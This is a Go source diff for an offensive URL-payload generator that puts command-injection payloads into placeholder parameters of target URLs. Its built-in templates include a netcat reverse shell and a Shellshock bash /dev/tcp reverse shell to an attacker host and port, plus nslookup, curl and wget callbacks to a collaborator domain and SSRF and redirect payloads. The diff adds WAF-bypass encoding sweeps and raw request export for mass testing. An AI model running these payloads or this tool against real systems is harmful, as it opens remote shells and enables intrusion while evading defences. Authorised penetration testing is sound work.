@@ -2,42 +2,200 @@ package main
 
 import (
 	"bufio"
+	"bytes"
+	"context"
 	"flag"
 	"fmt"
+	"io"
+	"math/rand"
+	"net"
+	"net/http"
 	"net/url"
 	"os"
 	"path/filepath"
 	"regexp"
 	"strings"
+	"text/template"
+	"time"
+	"unicode"
 )
 
 var (
-	inFile  string
-	outFile string
-	mode    string // "all" or "single"
+	inFile    string
+	outFile   string
+	mode      string // "all" or "single"
+	tagMode   string // "off", "comment" or "param"
+	oobProto  string // "dns", "http" or "both"
+	firstN    int
+	shuffle   bool
+	seed      int64
+	maxTotal  int
+	dryRun    bool
+	appendOut bool
 
-	lhost   string
-	lport   string
-	collab  string
+	strictURL   bool
+	rejectsFile string
+
+	saveReqDir  string
+	savedReqs   int
+	unsavedReqs int
+
+	inlinePayloads stringList
+	payloadsFile   string
+	replaceBuiltin bool
+
+	checkCollabFlag bool
+	strictCollab    bool
+
+	sweepClasses []string // -bypass-sweep transformations, in output order
+
+	contextFile string
+	paramCtx    map[string][]string // param name (lowercase) -> allowed template tags
+	ctxMapped   int
+	ctxUnmapped int
+
+	maxFileSize int64 // MiB
+
+	outputTemplate string
+	lineTpl        *template.Template
+	emitted        int
+
+	lhost  string
+	lport  string
+	collab string
+	canary string // in-band SSRF/redirect target; collab is the OOB/DNS one
 
 	lakshRe = regexp.MustCompile(`LAKSH(\d+)`)
 )
 
-// URL-encoded payload templates with tokens {LHOST}, {LPORT}, {COLLAB}
-var payloadTemplates = []string{
-	`;%20nc%20-c%20sh%20{LHOST}%20{LPORT}`,
-	`()%20{%20:;%20};%20/bin/bash%20-c%20'bash%20-i%20>&%20/dev/tcp/{LHOST}/{LPORT}%200>&1'`,
-	`()%20{%20:;%20};%20/bin/nslookup%20{COLLAB}`,
+// variant is one generated line; its fields are what -output-template sees.
+type variant struct {
+	URL      string // URL with the payload inserted (and the -tag marker, if any)
+	Payload  string // expanded payload that was inserted
+	Template string // tag of the payload template
+	Index    int    // 1-based position in the output
+	Host     string // host of the URL, empty if it does not parse
+	Encoding string // -bypass-sweep transformation, empty when not sweeping
+}
+
+// stringList is a repeatable string flag.
+type stringList []string
+
+func (l *stringList) String() string     { return strings.Join(*l, ", ") }
+func (l *stringList) Set(v string) error { *l = append(*l, v); return nil }
+
+// tagParam is the query parameter used to mark variants in -tag param mode.
+const tagParam = "rcesh_tpl"
+
+// payloadTemplate is a URL-encoded payload with tokens {LHOST}, {LPORT}, {COLLAB}
+// and {CANARY_DOMAIN}. Tag names the template in -tag output so hits can be
+// traced back to it. OOB is the callback channel of built-in {COLLAB}
+// templates ("dns" or "http"), used by -collab-protocol.
+type payloadTemplate struct {
+	Tag   string
+	Value string
+	OOB   string
+}
+
+var payloadTemplates = []payloadTemplate{
+	{Tag: "nc", Value: `;%20nc%20-c%20sh%20{LHOST}%20{LPORT}`},
+	{Tag: "bash-tcp", Value: `()%20{%20:;%20};%20/bin/bash%20-c%20'bash%20-i%20>&%20/dev/tcp/{LHOST}/{LPORT}%200>&1'`},
+	{Tag: "nslookup", Value: `()%20{%20:;%20};%20/bin/nslookup%20{COLLAB}`, OOB: "dns"},
+	{Tag: "curl", Value: `()%20{%20:;%20};%20/usr/bin/curl%20-s%20http://{COLLAB}/`, OOB: "http"},
+	{Tag: "wget", Value: `()%20{%20:;%20};%20/usr/bin/wget%20-q%20-O-%20http://{COLLAB}/`, OOB: "http"},
+	{Tag: "ssrf", Value: `https://{CANARY_DOMAIN}/`},
+	{Tag: "redirect", Value: `//{CANARY_DOMAIN}/`},
 }
 
 func main() {
+	if len(os.Args) > 1 && os.Args[1] == "validate" {
+		os.Exit(runValidate(os.Args[2:]))
+	}
 	flag.StringVar(&inFile, "f", "", "Input file with URLs containing LAKSH1..N placeholders (one per line)")
+	flag.Int64Var(&maxFileSize, "max-file-size", 512, "Refuse input files larger than this many MiB, and cap piped input at it (0 = no limit)")
 	flag.StringVar(&outFile, "o", "", "Optional output file override (defaults to rcesh_{target}.txt)")
 	flag.StringVar(&mode, "mode", "all", "insertion mode: all (replace all placeholders per payload) | single (replace one at a time)")
+	flag.StringVar(&tagMode, "tag", "off", "mark each variant with its payload template: off | comment (trailing '# tpl=TAG', for reading only) | param (appends &"+tagParam+"=TAG, safe to feed to rcesh)")
+	flag.StringVar(&oobProto, "collab-protocol", "dns", "OOB callback payloads to emit: dns (nslookup; DNS usually leaves even filtered networks) | http (curl/wget; proves command execution and shows the request, but needs outbound HTTP) | both")
+	flag.StringVar(&canary, "canary-domain", "", "in-band canary domain for SSRF/open-redirect payloads ({CANARY_DOMAIN}); templates using it are skipped when empty. Unlike the OOB collaborator it is expected to show up in responses/redirects, which rcesh -canary-domain checks")
+	flag.IntVar(&firstN, "first-n", 0, "process only the first N input lines (0 = all), for quick payload validation")
+	flag.BoolVar(&shuffle, "shuffle", false, "randomize the payload order for each input line")
+	flag.Int64Var(&seed, "seed", 0, "seed for -shuffle so runs are reproducible (0 = time-based; the seed used is printed)")
+	flag.IntVar(&maxTotal, "max-total", 0, "stop once this many variants have been written across the whole input (0 = no cap)")
+	flag.BoolVar(&appendOut, "append", false, "append to the output (and -rejects) file instead of overwriting it, to accumulate batches in one file")
+	flag.BoolVar(&dryRun, "dry-run", false, "print variants to stdout instead of writing the output file")
+	flag.BoolVar(&strictURL, "strict-url", false, "drop variants that are not valid http(s) URLs instead of writing them (cleaner input for rcesh, at the cost of some payloads)")
+	flag.StringVar(&rejectsFile, "rejects", "", "with -strict-url, file receiving dropped variants and the reason (defaults to {output}_rejects.txt)")
+	flag.StringVar(&saveReqDir, "save-request", "", "also write each variant as a raw HTTP request file into this directory (for Burp Repeater, httpx, ...)")
+	flag.Var(&inlinePayloads, "p", "extra payload template, repeatable (e.g. -p '{LHOST}:{LPORT}' -p ';id'); inserted as given, so URL-encode it yourself")
+	flag.StringVar(&payloadsFile, "payloads-file", "", "file of extra payload templates, one per line as 'value' or 'tag<TAB>value' (# starts a comment)")
+	sweepSpec := flag.String("bypass-sweep", "", "emit each payload in several encodings for WAF-bypass sweeps: comma list of "+strings.Join(sweepNames, ",")+" or all; the class is appended to the tag (nc+double) and available as .Encoding")
+	flag.StringVar(&contextFile, "payload-context-file", "", "file mapping param names to payload tags, one 'param -> tag1,tag2' per line (e.g. 'redirect -> ssrf,redirect'); markers of unmapped params get every payload")
+	flag.BoolVar(&replaceBuiltin, "replace-builtin", false, "use only -payloads-file and -p templates instead of appending them to the built-in ones")
+	flag.StringVar(&outputTemplate, "output-template", "{{.URL}}", "Go text/template for each output line; fields: .URL .Payload .Template .Index .Host .Encoding (e.g. '{{.Index}},{{.Template}},{{.URL}}')")
+	flag.BoolVar(&checkCollabFlag, "check-collab", false, "resolve and request the collaborator domain before generating, to catch typos and expired sessions")
+	flag.BoolVar(&strictCollab, "strict", false, "with -check-collab, abort when the collaborator check fails instead of warning")
+	showCfg := flag.Bool("show-config", false, "print the effective settings to stderr and exit")
 	flag.Parse()
+	if *showCfg {
+		showConfig()
+		return
+	}
 
 	if inFile == "" {
-		fmt.Println("Usage: go run inserter.go -f params_target.com.txt [-o out.txt] [-mode all|single]")
+		fmt.Println("Usage: go run inserter.go -f params_target.com.txt [-o out.txt] [-append] [-mode all|single] [-tag off|comment|param] [-collab-protocol dns|http|both] [-first-n N] [-max-total N] [-shuffle [-seed N]] [-dry-run] [-canary-domain domain] [-strict-url [-rejects file]] [-save-request dir] [-payloads-file file] [-p payload ...] [-replace-builtin] [-payload-context-file map.txt] [-bypass-sweep all|plain,url,...] [-output-template tpl] [-check-collab [-strict]] [-show-config]")
+		fmt.Println("       go run inserter.go validate [-headers] file   (lint a -payloads-file, or an rcesh -headers-file)")
+		os.Exit(1)
+	}
+
+	custom, err := loadCustomPayloads(payloadsFile, inlinePayloads)
+	if err != nil {
+		fmt.Printf("Error loading payloads: %v\n", err)
+		os.Exit(1)
+	}
+	if replaceBuiltin {
+		if len(custom) == 0 {
+			fmt.Println("-replace-builtin needs -payloads-file or -p")
+			os.Exit(1)
+		}
+		payloadTemplates = custom
+	} else {
+		payloadTemplates = append(payloadTemplates, custom...)
+	}
+
+	if sweepClasses, err = parseSweep(*sweepSpec); err != nil {
+		fmt.Printf("Invalid -bypass-sweep: %v\n", err)
+		os.Exit(1)
+	}
+
+	if contextFile != "" {
+		if paramCtx, err = loadParamContext(contextFile, payloadTemplates); err != nil {
+			fmt.Printf("Error loading payload context: %v\n", err)
+			os.Exit(1)
+		}
+	}
+
+	lineTpl, err = template.New("line").Option("missingkey=error").Parse(outputTemplate)
+	if err == nil {
+		// Catch unknown fields now rather than on the first variant
+		err = lineTpl.Execute(io.Discard, variant{})
+	}
+	if err != nil {
+		fmt.Printf("Invalid -output-template: %v\n", err)
+		os.Exit(1)
+	}
+	switch oobProto {
+	case "dns", "http":
+		payloadTemplates = withOOB(payloadTemplates, oobProto)
+	case "both":
+	default:
+		fmt.Printf("Invalid -collab-protocol value: %s (use dns|http|both)\n", oobProto)
+		os.Exit(1)
+	}
+	switch tagMode {
+	case "off", "comment", "param":
+	default:
+		fmt.Printf("Invalid -tag value: %s (use off|comment|param)\n", tagMode)
 		os.Exit(1)
 	}
 
@@ -46,11 +204,33 @@ func main() {
 	lport = promptIfEmpty("Enter LPORT (listener port): ", lport)
 	collab = promptIfEmpty("Enter Burp Collaborator domain (e.g., abc.oastify.com): ", collab)
 
+	if checkCollabFlag {
+		c := strings.TrimPrefix(strings.TrimPrefix(strings.TrimSpace(collab), "http://"), "https://")
+		if c == "" {
+			fmt.Println("[!] -check-collab: no collaborator domain set, nothing to check")
+		} else if addrs, err := checkCollab(c); err != nil {
+			fmt.Printf("[!] Collaborator %s check failed: %v\n", c, err)
+			if strictCollab {
+				os.Exit(1)
+			}
+		} else {
+			fmt.Printf("[+] Collaborator %s resolves to %s and answers HTTP\n", c, strings.Join(addrs, ", "))
+		}
+	}
+
+	if canary == "" {
+		payloadTemplates = withoutToken(payloadTemplates, "{CANARY_DOMAIN}")
+	}
+
 	lines, err := readLines(inFile)
 	if err != nil {
 		fmt.Printf("Error reading input: %v\n", err)
 		os.Exit(1)
 	}
+	if firstN > 0 && len(lines) > firstN {
+		fmt.Printf("[+] Input truncated to the first %d of %d lines (-first-n)\n", firstN, len(lines))
+		lines = lines[:firstN]
+	}
 
 	target := inferTarget(lines)
 	if outFile == "" {
@@ -60,21 +240,69 @@ func main() {
 		outFile = fmt.Sprintf("rcesh_%s.txt", sanitizeFilename(target))
 	}
 
-	out, err := os.Create(outFile)
-	if err != nil {
-		fmt.Printf("Error creating output file: %v\n", err)
-		os.Exit(1)
+	out := os.Stdout
+	priorLines := 0
+	if dryRun {
+		outFile = "stdout (dry run)"
+	} else {
+		if appendOut {
+			if priorLines, err = countLines(outFile); err != nil {
+				fmt.Printf("Error reading output file: %v\n", err)
+				os.Exit(1)
+			}
+		}
+		out, err = openOutput(outFile)
+		if err != nil {
+			fmt.Printf("Error creating output file: %v\n", err)
+			os.Exit(1)
+		}
+		defer out.Close()
+	}
+
+	if saveReqDir != "" {
+		if err := os.MkdirAll(saveReqDir, 0755); err != nil {
+			fmt.Printf("Error creating request directory: %v\n", err)
+			os.Exit(1)
+		}
+	}
+
+	var rejects *os.File
+	if strictURL && !(dryRun && rejectsFile == "") {
+		if rejectsFile == "" {
+			rejectsFile = strings.TrimSuffix(outFile, ".txt") + "_rejects.txt"
+		}
+		rejects, err = openOutput(rejectsFile)
+		if err != nil {
+			fmt.Printf("Error creating rejects file: %v\n", err)
+			os.Exit(1)
+		}
+		defer rejects.Close()
+	}
+
+	var rng *rand.Rand
+	if shuffle {
+		if seed == 0 {
+			seed = time.Now().UnixNano()
+		}
+		rng = rand.New(rand.NewSource(seed))
+		fmt.Fprintf(os.Stderr, "[+] Shuffling payload order with -seed %d\n", seed)
 	}
-	defer out.Close()
 
 	totalIn := 0
 	totalOut := 0
+	totalRejected := 0
+	capped := -1 // index of the first line left unprocessed by -max-total
 
-	for _, raw := range lines {
+lines:
+	for i, raw := range lines {
 		line := strings.TrimSpace(raw)
 		if line == "" {
 			continue
 		}
+		if maxTotal > 0 && totalOut >= maxTotal {
+			capped = i
+			break
+		}
 		totalIn++
 
 		// Skip if no LAKSH placeholder
@@ -82,6 +310,8 @@ func main() {
 			continue
 		}
 
+		tpls := payloadOrder(rng, payloadTemplates)
+
 		switch mode {
 		case "single":
 			// One-at-a-time per placeholder per payload
@@ -90,34 +320,177 @@ func main() {
 				continue
 			}
 			for _, pos := range idxs {
-				for _, tpl := range payloadTemplates {
-					payload := expandTokens(tpl, lhost, lport, collab)
-					variant := replaceLakshAtIndex(line, pos, payload)
-					emit(out, variant)
-					totalOut++
+				for _, tpl := range contextTemplates(tpls, []string{paramAt(line, pos)}) {
+					for _, sv := range sweepPayloads(expandTokens(tpl.Value, lhost, lport, collab, canary)) {
+						if maxTotal > 0 && totalOut >= maxTotal {
+							capped = i + 1
+							break lines
+						}
+						v := variant{URL: replaceLakshAtIndex(line, pos, sv.payload), Payload: sv.payload, Template: tpl.Tag + sv.suffix(), Encoding: sv.class}
+						if emit(out, rejects, v) {
+							totalOut++
+						} else {
+							totalRejected++
+						}
+					}
 				}
 			}
 		default: // "all"
 			// Replace every LAKSH with the same payload for each payload template
-			for _, tpl := range payloadTemplates {
-				payload := expandTokens(tpl, lhost, lport, collab)
-				variant := replaceAllLaksh(line, payload)
-				emit(out, variant)
-				totalOut++
+			var params []string
+			for _, pos := range findLakshIndices(line) {
+				params = append(params, paramAt(line, pos))
+			}
+			for _, tpl := range contextTemplates(tpls, params) {
+				for _, sv := range sweepPayloads(expandTokens(tpl.Value, lhost, lport, collab, canary)) {
+					if maxTotal > 0 && totalOut >= maxTotal {
+						capped = i + 1
+						break lines
+					}
+					v := variant{URL: replaceAllLaksh(line, sv.payload), Payload: sv.payload, Template: tpl.Tag + sv.suffix(), Encoding: sv.class}
+					if emit(out, rejects, v) {
+						totalOut++
+					} else {
+						totalRejected++
+					}
+				}
 			}
 		}
 	}
 
 	fmt.Printf("Processed %d input lines. Wrote %d variants to %s\n", totalIn, totalOut, outFile)
+	if appendOut && !dryRun {
+		fmt.Printf("Appended %d lines to %s, which had %d before\n", totalOut, outFile, priorLines)
+	}
+	if paramCtx != nil {
+		fmt.Printf("Payload context: %d markers matched a mapped param, %d got every payload\n", ctxMapped, ctxUnmapped)
+	}
+	if maxTotal > 0 {
+		if capped >= 0 {
+			left := 0
+			for _, raw := range lines[capped:] {
+				if strings.TrimSpace(raw) != "" {
+					left++
+				}
+			}
+			fmt.Printf("Hit -max-total %d; %d input lines left unprocessed\n", maxTotal, left)
+		} else {
+			fmt.Printf("-max-total %d not reached\n", maxTotal)
+		}
+	}
+	if strictURL {
+		if rejects != nil {
+			fmt.Printf("Rejected %d invalid variants (logged to %s)\n", totalRejected, rejectsFile)
+		} else {
+			fmt.Printf("Rejected %d invalid variants\n", totalRejected)
+		}
+	}
+	if saveReqDir != "" {
+		fmt.Printf("Saved %d raw requests to %s", savedReqs, saveReqDir)
+		if unsavedReqs > 0 {
+			fmt.Printf(" (%d variants could not be turned into a request)", unsavedReqs)
+		}
+		fmt.Println()
+	}
 }
 
-func emit(w *os.File, s string) {
-	// Validate URL structure lightly; still write even if parse error (to keep payloads intact)
-	if _, err := url.Parse(s); err != nil {
-		_, _ = w.WriteString(s + "\n")
-		return
+// emit writes the variant to w, formatted by -output-template. By default even
+// unparsable variants are written to keep payloads intact; with -strict-url
+// they go to rej (if any) instead and emit reports false.
+func emit(w, rej *os.File, v variant) bool {
+	s := v.URL
+	if strictURL {
+		if err := validateVariant(s); err != nil {
+			if rej != nil {
+				_, _ = rej.WriteString(s + "\t" + err.Error() + "\n")
+			}
+			return false
+		}
+	}
+	emitted++
+	v.Index = emitted
+	if u, err := url.Parse(s); err == nil {
+		v.Host = u.Host
+	}
+	v.URL = tagVariant(s, v.Template)
+	var b strings.Builder
+	if err := lineTpl.Execute(&b, v); err != nil {
+		b.Reset()
+		b.WriteString(v.URL)
+	}
+	_, _ = w.WriteString(b.String() + "\n")
+	if saveReqDir != "" {
+		if err := saveRequest(s, v.Template); err != nil {
+			unsavedReqs++
+		}
+	}
+	return true
+}
+
+// saveRequest writes variant s as a raw HTTP/1.1 GET request. Files are named
+// by emission order, host and template tag, so reruns produce the same names;
+// the payload travels unmodified in the request target.
+func saveRequest(s, tag string) error {
+	u, err := url.Parse(s)
+	if err != nil || u.Host == "" {
+		return fmt.Errorf("not a usable URL: %s", s)
+	}
+	name := fmt.Sprintf("%06d_%s_%s.txt", savedReqs+1, sanitizeFilename(u.Host), tag)
+	var b strings.Builder
+	b.WriteString("GET " + u.RequestURI() + " HTTP/1.1\r\n")
+	b.WriteString("Host: " + u.Host + "\r\n")
+	b.WriteString("User-Agent: Mozilla/5.0 (compatible; spidey/1.0)\r\n")
+	b.WriteString("Accept: */*\r\n")
+	b.WriteString("Connection: close\r\n")
+	b.WriteString("\r\n")
+	if err := os.WriteFile(filepath.Join(saveReqDir, name), []byte(b.String()), 0644); err != nil {
+		return err
+	}
+	savedReqs++
+	return nil
+}
+
+// validateVariant checks that s can be sent as-is by rcesh: it must parse as an
+// absolute http(s) URL with a host and contain no whitespace or control bytes.
+func validateVariant(s string) error {
+	for i := 0; i < len(s); i++ {
+		if s[i] <= ' ' || s[i] == 0x7f {
+			return fmt.Errorf("whitespace or control byte at offset %d", i)
+		}
+	}
+	u, err := url.Parse(s)
+	if err != nil {
+		return err
+	}
+	if u.Scheme != "http" && u.Scheme != "https" {
+		return fmt.Errorf("unsupported scheme %q", u.Scheme)
+	}
+	if u.Host == "" {
+		return fmt.Errorf("missing host")
+	}
+	return nil
+}
+
+// tagVariant marks s with the template tag according to -tag. Comment mode keeps
+// the URL untouched but the line is no longer a bare URL; param mode keeps the
+// line a valid URL by adding a benign query parameter (before any fragment).
+func tagVariant(s, tag string) string {
+	switch tagMode {
+	case "comment":
+		return s + " # tpl=" + tag
+	case "param":
+		frag := ""
+		if i := strings.IndexByte(s, '#'); i >= 0 {
+			s, frag = s[:i], s[i:]
+		}
+		sep := "&"
+		if !strings.Contains(s, "?") {
+			sep = "?"
+		}
+		return s + sep + tagParam + "=" + url.QueryEscape(tag) + frag
+	default:
+		return s
 	}
-	_, _ = w.WriteString(s + "\n")
 }
 
 func promptIfEmpty(prompt, cur string) string {
@@ -136,8 +509,12 @@ func readLines(p string) ([]string, error) {
 		return nil, err
 	}
 	defer f.Close()
+	r, err := guardInput(f)
+	if err != nil {
+		return nil, err
+	}
 	var lines []string
-	sc := bufio.NewScanner(f)
+	sc := bufio.NewScanner(r)
 	buf := make([]byte, 0, 256*1024)
 	sc.Buffer(buf, 2*1024*1024)
 	for sc.Scan() {
@@ -146,16 +523,79 @@ func readLines(p string) ([]string, error) {
 	return lines, sc.Err()
 }
 
+// guardInput checks an opened input against -max-file-size before it is
+// read: regular files are refused when too large or when they look binary
+// (a NUL in the first 4 KiB); pipes are capped as they are read.
+func guardInput(f *os.File) (io.Reader, error) {
+	limit := maxFileSize << 20
+	st, err := f.Stat()
+	if err != nil {
+		return nil, err
+	}
+	if !st.Mode().IsRegular() {
+		if limit <= 0 {
+			return f, nil
+		}
+		return &cappedReader{r: f, left: limit, name: f.Name()}, nil
+	}
+	if limit > 0 && st.Size() > limit {
+		return nil, fmt.Errorf("%s is %d MiB, over -max-file-size %d MiB (raise it, or 0 to disable)", f.Name(), st.Size()>>20, maxFileSize)
+	}
+	head := make([]byte, 4096)
+	n, _ := io.ReadFull(f, head)
+	if bytes.IndexByte(head[:n], 0) >= 0 {
+		return nil, fmt.Errorf("%s looks like a binary file, not a text list", f.Name())
+	}
+	if _, err := f.Seek(0, io.SeekStart); err != nil {
+		return nil, err
+	}
+	return f, nil
+}
+
+// cappedReader fails a stream once it passes -max-file-size.
+type cappedReader struct {
+	r    io.Reader
+	left int64
+	name string
+}
+
+func (c *cappedReader) Read(p []byte) (int, error) {
+	if c.left <= 0 {
+		return 0, fmt.Errorf("%s exceeds -max-file-size %d MiB", c.name, maxFileSize)
+	}
+	if int64(len(p)) > c.left {
+		p = p[:c.left]
+	}
+	n, err := c.r.Read(p)
+	c.left -= int64(n)
+	return n, err
+}
+
 func inferTarget(lines []string) string {
 	for _, s := range lines {
 		u, err := url.Parse(strings.TrimSpace(s))
 		if err == nil && u.Host != "" {
-			return u.Host
+			host, port := splitHostPort(u.Host)
+			if port != "" {
+				return host + "_" + port
+			}
+			return host
 		}
 	}
 	return ""
 }
 
+// splitHostPort separates a URL host into host and port for hostnames, IPv4
+// and bracketed IPv6 literals. The port is empty when none is given and IPv6
+// hosts come back without brackets.
+func splitHostPort(hostport string) (host, port string) {
+	h, p, err := net.SplitHostPort(hostport)
+	if err != nil {
+		return strings.TrimSuffix(strings.TrimPrefix(hostport, "["), "]"), ""
+	}
+	return h, p
+}
+
 func sanitizeFilename(name string) string {
 	name = strings.ReplaceAll(name, string(filepath.Separator), "_")
 	name = strings.ReplaceAll(name, ":", "_")
@@ -173,6 +613,182 @@ func findLakshIndices(s string) []int {
 	return out
 }
 
+// sweepNames lists the -bypass-sweep transformations. Each works on the
+// decoded payload: plain keeps the template's own encoding, url percent-encodes
+// every reserved character, double encodes that again (%25..), case alternates
+// letter case, space swaps spaces for tabs and comment swaps them for /**/.
+var sweepNames = []string{"plain", "url", "double", "case", "space", "comment"}
+
+// sweptPayload is one encoding of a payload; class is empty when not sweeping.
+type sweptPayload struct {
+	class   string
+	payload string
+}
+
+func (sp sweptPayload) suffix() string {
+	if sp.class == "" {
+		return ""
+	}
+	return "+" + sp.class
+}
+
+func parseSweep(spec string) ([]string, error) {
+	spec = strings.TrimSpace(spec)
+	if spec == "" {
+		return nil, nil
+	}
+	if spec == "all" {
+		return sweepNames, nil
+	}
+	var out []string
+	for _, c := range strings.Split(spec, ",") {
+		c = strings.TrimSpace(c)
+		known := false
+		for _, n := range sweepNames {
+			known = known || n == c
+		}
+		if !known {
+			return nil, fmt.Errorf("unknown class %q (use %s or all)", c, strings.Join(sweepNames, ","))
+		}
+		out = append(out, c)
+	}
+	return out, nil
+}
+
+// sweepPayloads returns payload in each -bypass-sweep encoding, or just
+// payload itself when no sweep is configured.
+func sweepPayloads(payload string) []sweptPayload {
+	if len(sweepClasses) == 0 {
+		return []sweptPayload{{payload: payload}}
+	}
+	raw, err := url.PathUnescape(payload)
+	if err != nil {
+		raw = payload
+	}
+	enc := func(s string) string { return strings.ReplaceAll(url.QueryEscape(s), "+", "%20") }
+	out := make([]sweptPayload, 0, len(sweepClasses))
+	for _, c := range sweepClasses {
+		var p string
+		switch c {
+		case "plain":
+			p = payload
+		case "url":
+			p = enc(raw)
+		case "double":
+			p = strings.ReplaceAll(enc(raw), "%", "%25")
+		case "case":
+			p = enc(alternateCase(raw))
+		case "space":
+			p = enc(strings.ReplaceAll(raw, " ", "\t"))
+		case "comment":
+			p = enc(strings.ReplaceAll(raw, " ", "/**/"))
+		}
+		out = append(out, sweptPayload{class: c, payload: p})
+	}
+	return out
+}
+
+// alternateCase flips every other letter to upper case (nslookup -> nSlOoKuP).
+func alternateCase(s string) string {
+	b := []byte(s)
+	n := 0
+	for i, c := range b {
+		if c >= 'a' && c <= 'z' || c >= 'A' && c <= 'Z' {
+			if n%2 == 1 {
+				b[i] = byte(unicode.ToUpper(rune(c)))
+			} else {
+				b[i] = byte(unicode.ToLower(rune(c)))
+			}
+			n++
+		}
+	}
+	return string(b)
+}
+
+// loadParamContext reads 'param -> tag1,tag2' lines (# starts a comment).
+// Param names are matched case-insensitively; every tag must name a loaded
+// payload template.
+func loadParamContext(p string, tpls []payloadTemplate) (map[string][]string, error) {
+	lines, err := readLines(p)
+	if err != nil {
+		return nil, err
+	}
+	known := make(map[string]bool, len(tpls))
+	for _, t := range tpls {
+		known[t.Tag] = true
+	}
+	m := make(map[string][]string)
+	for n, l := range lines {
+		l = strings.TrimSpace(l)
+		if l == "" || strings.HasPrefix(l, "#") {
+			continue
+		}
+		param, tags, ok := strings.Cut(l, "->")
+		param = strings.ToLower(strings.TrimSpace(param))
+		if !ok || param == "" {
+			return nil, fmt.Errorf("line %d: want 'param -> tag1,tag2'", n+1)
+		}
+		for _, t := range strings.Split(tags, ",") {
+			t = strings.TrimSpace(t)
+			if t == "" {
+				continue
+			}
+			if !known[t] {
+				return nil, fmt.Errorf("line %d: no payload template tagged %q", n+1, t)
+			}
+			m[param] = append(m[param], t)
+		}
+	}
+	return m, nil
+}
+
+// contextTemplates narrows tpls to the tags mapped for params, which are the
+// params of the markers being replaced. Any unmapped param keeps them all.
+func contextTemplates(tpls []payloadTemplate, params []string) []payloadTemplate {
+	if paramCtx == nil {
+		return tpls
+	}
+	allowed := make(map[string]bool)
+	all := false
+	for _, p := range params {
+		tags, ok := paramCtx[strings.ToLower(p)]
+		if !ok {
+			ctxUnmapped++
+			all = true
+			continue
+		}
+		ctxMapped++
+		for _, t := range tags {
+			allowed[t] = true
+		}
+	}
+	if all {
+		return tpls
+	}
+	out := make([]payloadTemplate, 0, len(allowed))
+	for _, t := range tpls {
+		if allowed[t.Tag] {
+			out = append(out, t)
+		}
+	}
+	return out
+}
+
+// paramAt returns the (decoded) name of the query param whose value holds
+// the marker starting at pos, or "" if pos is not inside a key=value pair.
+func paramAt(s string, pos int) string {
+	eq := strings.LastIndexByte(s[:pos], '=')
+	if eq < 0 || strings.ContainsAny(s[eq:pos], "&;?#") {
+		return ""
+	}
+	start := strings.LastIndexAny(s[:eq], "?&;") + 1
+	name, err := url.QueryUnescape(s[start:eq])
+	if err != nil {
+		return s[start:eq]
+	}
+	return name
+}
+
 // Replace only the occurrence whose start index equals targetIdx
 func replaceLakshAtIndex(s string, targetIdx int, payload string) string {
 	locs := lakshRe.FindAllStringIndex(s, -1)
@@ -202,12 +818,248 @@ func replaceAllLaksh(s, payload string) string {
 	})
 }
 
-func expandTokens(tpl, host, port, collaborator string) string {
+// showConfig prints the effective value of every flag to stderr, marking
+// the ones left at their default.
+func showConfig() {
+	set := make(map[string]bool)
+	flag.Visit(func(f *flag.Flag) { set[f.Name] = true })
+	fmt.Fprintln(os.Stderr, "Effective config:")
+	flag.VisitAll(func(f *flag.Flag) {
+		if f.Name == "show-config" {
+			return
+		}
+		src := "default"
+		if set[f.Name] {
+			src = "set"
+		}
+		fmt.Fprintf(os.Stderr, "  -%-24s %-30q (%s)\n", f.Name, f.Value.String(), src)
+	})
+}
+
+// openOutput creates or truncates p, or opens it for appending with -append.
+func openOutput(p string) (*os.File, error) {
+	if appendOut {
+		return os.OpenFile(p, os.O_APPEND|os.O_CREATE|os.O_WRONLY, 0644)
+	}
+	return os.Create(p)
+}
+
+// countLines counts newline-terminated lines in p; a missing file has none.
+func countLines(p string) (int, error) {
+	f, err := os.Open(p)
+	if os.IsNotExist(err) {
+		return 0, nil
+	}
+	if err != nil {
+		return 0, err
+	}
+	defer f.Close()
+	n := 0
+	buf := make([]byte, 64*1024)
+	for {
+		c, err := f.Read(buf)
+		n += strings.Count(string(buf[:c]), "\n")
+		if err == io.EOF {
+			return n, nil
+		}
+		if err != nil {
+			return n, err
+		}
+	}
+}
+
+// payloadOrder returns the templates to use for one input line: as given
+// when rng is nil, otherwise a shuffled copy drawn from rng.
+func payloadOrder(rng *rand.Rand, tpls []payloadTemplate) []payloadTemplate {
+	if rng == nil {
+		return tpls
+	}
+	out := append([]payloadTemplate(nil), tpls...)
+	rng.Shuffle(len(out), func(i, j int) { out[i], out[j] = out[j], out[i] })
+	return out
+}
+
+// checkCollab resolves the collaborator domain and sends it one plain HTTP
+// request, so a typo'd or expired callback domain shows up before the run.
+// Any HTTP response counts as reachable.
+func checkCollab(domain string) ([]string, error) {
+	ctx, cancel := context.WithTimeout(context.Background(), 5*time.Second)
+	defer cancel()
+	host := domain
+	if h, _, err := net.SplitHostPort(domain); err == nil {
+		host = h
+	}
+	addrs, err := net.DefaultResolver.LookupHost(ctx, host)
+	if err != nil {
+		return nil, fmt.Errorf("dns lookup: %w", err)
+	}
+	client := &http.Client{Timeout: 5 * time.Second}
+	resp, err := client.Get("http://" + domain + "/")
+	if err != nil {
+		return addrs, fmt.Errorf("http request: %w", err)
+	}
+	resp.Body.Close()
+	return addrs, nil
+}
+
+func expandTokens(tpl, host, port, collaborator, canaryDomain string) string {
 	x := strings.ReplaceAll(tpl, "{LHOST}", url.PathEscape(host))
 	x = strings.ReplaceAll(x, "{LPORT}", url.PathEscape(port))
 	c := strings.TrimSpace(collaborator)
 	c = strings.TrimPrefix(c, "http://")
 	c = strings.TrimPrefix(c, "https://")
 	x = strings.ReplaceAll(x, "{COLLAB}", c)
+	d := strings.TrimSpace(canaryDomain)
+	d = strings.TrimPrefix(d, "http://")
+	d = strings.TrimPrefix(d, "https://")
+	x = strings.ReplaceAll(x, "{CANARY_DOMAIN}", strings.TrimSuffix(d, "/"))
 	return x
 }
+
+// loadCustomPayloads returns the templates from file (if any) followed by the
+// inline -p ones. Untagged templates are named file1.., p1.. by position.
+func loadCustomPayloads(file string, inline []string) ([]payloadTemplate, error) {
+	var out []payloadTemplate
+	if file != "" {
+		lines, err := readLines(file)
+		if err != nil {
+			return nil, err
+		}
+		for _, l := range lines {
+			l = strings.TrimSpace(l)
+			if l == "" || strings.HasPrefix(l, "#") {
+				continue
+			}
+			tag, value, ok := strings.Cut(l, "\t")
+			if !ok {
+				tag, value = fmt.Sprintf("file%d", len(out)+1), l
+			}
+			out = append(out, payloadTemplate{Tag: strings.TrimSpace(tag), Value: strings.TrimSpace(value)})
+		}
+	}
+	for i, p := range inline {
+		out = append(out, payloadTemplate{Tag: fmt.Sprintf("p%d", i+1), Value: p})
+	}
+	return out, nil
+}
+
